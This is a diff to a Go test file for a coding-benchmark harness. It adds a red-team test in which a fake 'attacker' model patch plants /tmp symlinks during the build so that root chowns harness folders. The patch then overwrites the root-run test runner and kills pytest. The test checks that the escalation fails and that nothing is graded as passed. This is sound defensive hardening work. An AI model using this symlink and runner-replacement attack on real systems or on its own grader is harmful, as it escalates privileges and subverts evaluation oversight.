@@ -323,3 +323,67 @@ func TestRedTeamLevel2(t *testing.T) {
 		})
 	}
 }
+
+// TestRedTeamLevel2LinkToRoot: a level 2 build runs as the tests' user
+// before the tests are put in place. Here it plants links, under /tmp,
+// at every name where the harness ever made a folder for the tests' user
+// (this kernel follows links in sticky folders: fs.protected_symlinks
+// is 0), hoping that root chowns the harness's folder through one. Its
+// package then checks whether it owns the harness's folder and, if so,
+// replaces the runner (which root starts for the next pytest run) with
+// one that says who it runs as, and kills its pytest so that the files
+// run again. Root must never run it, and nothing must be graded passed.
+func TestRedTeamLevel2LinkToRoot(t *testing.T) {
+	ds := example(t)
+	eng, img := envImage(t)
+	var id string
+	for _, in := range ds.SplitInstances("full") {
+		if in.Level == 2 {
+			id = in.InstanceID
+			break
+		}
+	}
+	if id == "" {
+		t.Fatal("the example has no level 2 instance")
+	}
+	setup := `import os
+for _target in ("/fb", "/fb/plugin", "/fb/out"):
+    for _name in ("/tmp/featbench-junit", "/tmp/featbench-agent", "/tmp/featbench/junit", "/tmp/featbench/agent",
+                  "/tmp/featbench/junit/x", "/tmp/featbench/agent/x"):
+        try:
+            os.symlink(_target, _name)
+            print("featbench-attack: planted %s -> %s" % (_name, _target))
+            break
+        except OSError:
+            pass
+from setuptools import setup
+setup(name="agent_code", version="0.1", packages=["agent_code"])
+`
+	init := `import os, signal
+_evil = "import os, sys\nprint('featbench-attack: the runner ran as uid %d' % os.getuid())\nsys.stdout.flush()\nos._exit(0)\n"
+for _d, _f in (("/fb", "featbench_run.py"), ("/fb/plugin", "featbench_pytest.py")):
+    if os.stat(_d).st_uid == os.getuid():
+        print("featbench-attack: the tests' user owns " + _d)
+        _tmp = os.path.join(_d, ".evil")
+        with open(_tmp, "w") as _w:
+            _w.write(_evil)
+        os.replace(_tmp, os.path.join(_d, _f))
+        os.kill(os.getpid(), signal.SIGKILL)
+`
+	preds := map[string]evaluate.Prediction{id: {Model: "attacker", Patch: []byte(newFile("setup.py", setup) + newFile("agent_code/__init__.py", init))}}
+	_, reps, dir := run(t, eng, img, ds, []string{id}, false, preds, testLimits)
+	r := reps[id]
+	if r == nil {
+		t.Fatal("no report")
+	}
+	log, _ := os.ReadFile(filepath.Join(dir, id, "attempt-1", "container.log"))
+	if !strings.Contains(string(log), "featbench-attack: planted") {
+		t.Fatalf("the build did not run (nothing planted): the attack was not tried\n%s", tail(log))
+	}
+	if m := regexp.MustCompile(`featbench-attack: (the tests' user owns \S+|the runner ran as uid \d+)`).FindAllString(string(log), -1); len(m) > 0 {
+		t.Errorf("the tests' user got the harness's folder: %q\n%s", m, tail(log))
+	}
+	if r.Resolved || r.FV || r.PassedRate > 0 {
+		t.Errorf("graded resolved %v, FV %v, %.0f%% passed", r.Resolved, r.FV, 100*r.PassedRate)
+	}
+}
